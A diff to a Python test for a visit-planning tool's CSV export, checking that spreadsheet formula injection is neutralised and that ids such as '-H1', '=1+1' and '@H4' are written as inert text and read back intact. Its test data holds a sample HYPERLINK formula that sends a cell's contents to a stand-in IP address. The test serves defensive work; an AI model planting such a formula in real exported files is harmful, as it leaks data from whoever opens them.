@@ -404,20 +404,27 @@ def test_a_forced_promotions_reason_with_a_persons_number_is_refused_before_any_
     assert not (tmp_path / "ws").exists()  # refused before the workspace was touched
 
 
-def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(tmp_path: Path) -> None:
+def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(
+    small_prefecture_dir: Path, tmp_path: Path
+) -> None:
     """score --out scores.csv wrote a supervisor's override reason '=HYPERLINK(…)' as it was,
     which Excel or WPS runs when the file is opened, and without a BOM, so they showed its
-    Chinese garbled; it is now marked ' and the file has a BOM, while the columns assign
-    --scores reads back (household_id, model_version) stay as written."""
+    Chinese garbled; it is now marked ' and the file has a BOM. The columns assign --scores
+    reads back (household_id, model_version) were written as they were, so an id the
+    contracts accept (any non-blank text: -H1, =1+1, @H4) ran as a formula in Excel; such a
+    cell is now written as the formula of its text (="-H1": shown as -H1, nothing run),
+    which the contracts' reader reads back as the id itself."""
     from visit_planner.risk_job import _atomic_write
 
     link = '=HYPERLINK("http://198.51.100.9/?d="&A2,"看")'
     scores = pl.DataFrame(
         {
-            "household_id": ["-H1", "H2"], "final_tier": pl.Series([1, 3], dtype=pl.Int8),
-            "p_tier1": [0.9, 0.1], "model_version": ["3", "3"],
-            "tier_source": ["override", "model"], "override_reason": [link, None],
-            "reasons": [["+elderly"], []],
+            "household_id": ["-H1", "H2", "=1+1", "@H4"],
+            "final_tier": pl.Series([1, 3, 2, 3], dtype=pl.Int8),
+            "p_tier1": [0.9, 0.1, 0.3, 0.1], "model_version": ["3"] * 4,
+            "tier_source": ["override", "model", "model", "model"],
+            "override_reason": [link, None, None, None],
+            "reasons": [["+elderly"], [], [], []],
         }
     )  # fmt: skip
     path = tmp_path / "scores.csv"
@@ -425,9 +432,16 @@ def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(tmp_path:
     raw = pl.read_csv(path, infer_schema=False)
     assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM: a spreadsheet reads 看
     assert raw["override_reason"][0] == f"'{link}" and raw["reasons"][0] == '["+elderly"]'
-    assert raw["household_id"].to_list() == ["-H1", "H2"]
-    frame, _ = read_table(path, "scores")
-    assert frame["household_id"].to_list() == ["-H1", "H2"]
+    # No cell a spreadsheet runs: each such id is the formula of its text.
+    assert raw["household_id"].to_list() == ['="-H1"', "H2", '="=1+1"', '="@H4"']
+    frame, _ = read_table(path, "scores")  # as assign, check-plan and explain read it
+    assert frame["household_id"].to_list() == ["-H1", "H2", "=1+1", "@H4"]
+    # The contracts accept such ids in the households (so they do reach the scores).
+    households = tmp_path / "households.parquet"
+    four = pl.read_parquet(small_prefecture_dir / "households.parquet").head(4)
+    four.with_columns(household_id=frame["household_id"]).write_parquet(households)
+    read, _ = read_table(households, "households")
+    assert read["household_id"].to_list() == ["-H1", "H2", "=1+1", "@H4"]
 
 
 def test_score_file_reports_every_problem_of_the_file_in_one_run(
